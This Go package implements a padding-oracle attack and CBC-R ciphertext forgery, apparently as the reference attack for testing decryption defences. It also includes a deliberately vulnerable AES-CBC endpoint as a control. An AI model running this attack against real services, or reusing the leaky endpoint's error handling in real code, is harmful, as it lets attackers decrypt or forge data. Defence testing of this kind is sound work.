// Package cbcr is the attack the decryption defences are tested against: a
// padding-oracle attack that learns the AES block decryption of chosen
// blocks from the answers of an endpoint that decrypts client data, and
// CBC-R, which chains those decryptions into a ciphertext that decrypts to
// a plaintext of the attacker's choosing, under a key the attacker never
// sees.
//
// The attack assumes nothing about the answers but that they are
// observable: for each byte it tries all 256 values and takes an answer
// given for at most a few of them as "the padding was valid". An endpoint
// that answers every failure alike gives it nothing (ErrNoOracle).
package cbcr

import (
	"crypto/aes"
	"crypto/cipher"
	"encoding/json"
	"errors"
	"math/rand/v2"
)

// Oracle sends iv and data (raw bytes) to the target and returns what an
// attacker observes of its answer (status and body, say).
type Oracle func(iv, data []byte) (string, error)

var (
	// ErrNoOracle: the target's answers did not single out a valid padding.
	ErrNoOracle = errors.New("cbcr: the answers tell nothing about the padding")
	// ErrBudget: the attack needed more queries than it was allowed.
	ErrBudget = errors.New("cbcr: query budget spent")
)

// Attack runs the attack against an oracle with a cap on queries.
type Attack struct {
	Oracle     Oracle
	MaxQueries int
	// Queries counts the queries sent so far.
	Queries int
	rng     *rand.Rand
}

// New returns an attack on o that sends at most maxQueries queries, with a
// fixed random seed so that runs repeat.
func New(o Oracle, maxQueries int) *Attack {
	return &Attack{Oracle: o, MaxQueries: maxQueries, rng: rand.New(rand.NewPCG(1, 2))}
}

func (a *Attack) ask(iv, block []byte) (string, error) {
	if a.Queries >= a.MaxQueries {
		return "", ErrBudget
	}
	a.Queries++
	return a.Oracle(iv, block)
}

// DecryptBlock learns D(c), the AES block decryption of c under the
// target's key, byte by byte from the last.
func (a *Attack) DecryptBlock(c []byte) ([]byte, error) {
	var mid [16]byte
	iv := make([]byte, 16)
	for k := 15; k >= 0; k-- {
		pad := byte(16 - k)
		for j := range k {
			iv[j] = byte(a.rng.UintN(256))
		}
		for j := k + 1; j < 16; j++ {
			iv[j] = mid[j] ^ pad
		}
		answers := make([]string, 256)
		count := map[string]int{}
		for g := range 256 {
			iv[k] = byte(g)
			ans, err := a.ask(iv, c)
			if err != nil {
				return nil, err
			}
			answers[g] = ans
			count[ans]++
		}
		var common string
		for ans, n := range count {
			if n > count[common] {
				common = ans
			}
		}
		if count[common] == 256 || count[common] < 250 {
			return nil, ErrNoOracle
		}
		found := -1
		for g := range 256 {
			if answers[g] == common {
				continue
			}
			if k > 0 {
				// Rule out a longer padding that happened to be valid:
				// it stays valid only if the byte before is not touched.
				iv[k] = byte(g)
				iv[k-1] ^= 0xff
				ans, err := a.ask(iv, c)
				iv[k-1] ^= 0xff
				if err != nil {
					return nil, err
				}
				if ans == common {
					continue
				}
			}
			found = g
			break
		}
		if found < 0 {
			return nil, ErrNoOracle
		}
		mid[k] = byte(found) ^ pad
	}
	return mid[:], nil
}

// Forge returns an iv and data that decrypt, under the target's key, to
// plaintext with PKCS#7 padding to 16 bytes.
func (a *Attack) Forge(plaintext []byte) (iv, data []byte, err error) {
	n := 16 - len(plaintext)%16
	padded := append([]byte(nil), plaintext...)
	for range n {
		padded = append(padded, byte(n))
	}
	blocks := len(padded) / 16
	out := make([]byte, 16*(blocks+1)) // iv, then the blocks
	for j := 16 * blocks; j < len(out); j++ {
		out[j] = byte(a.rng.UintN(256))
	}
	for i := blocks; i >= 1; i-- {
		mid, err := a.DecryptBlock(out[16*i : 16*i+16])
		if err != nil {
			return nil, nil, err
		}
		for j := range 16 {
			out[16*(i-1)+j] = mid[j] ^ padded[16*(i-1)+j]
		}
	}
	return out[:16], out[16:], nil
}

// Leaky is the control: an endpoint as an oracle-prone service would
// write it, which decrypts with key (AES-CBC) and answers bad padding, bad
// JSON and a good JSON object differently. The attack must forge through
// it, which shows that the attack works and that its failure elsewhere is
// the target's doing.
func Leaky(key []byte) Oracle {
	block, err := aes.NewCipher(key)
	if err != nil {
		panic(err)
	}
	return func(iv, data []byte) (string, error) {
		if len(iv) != 16 || len(data) == 0 || len(data)%16 != 0 {
			return "400 bad shape", nil
		}
		plain := make([]byte, len(data))
		cipher.NewCBCDecrypter(block, iv).CryptBlocks(plain, data)
		n := int(plain[len(plain)-1])
		if n < 1 || n > 16 {
			return "401 bad padding", nil
		}
		for _, b := range plain[len(plain)-n:] {
			if int(b) != n {
				return "401 bad padding", nil
			}
		}
		var v map[string]any
		if json.Unmarshal(plain[:len(plain)-n], &v) != nil {
			return "401 bad json", nil
		}
		return "200 ok", nil
	}
}
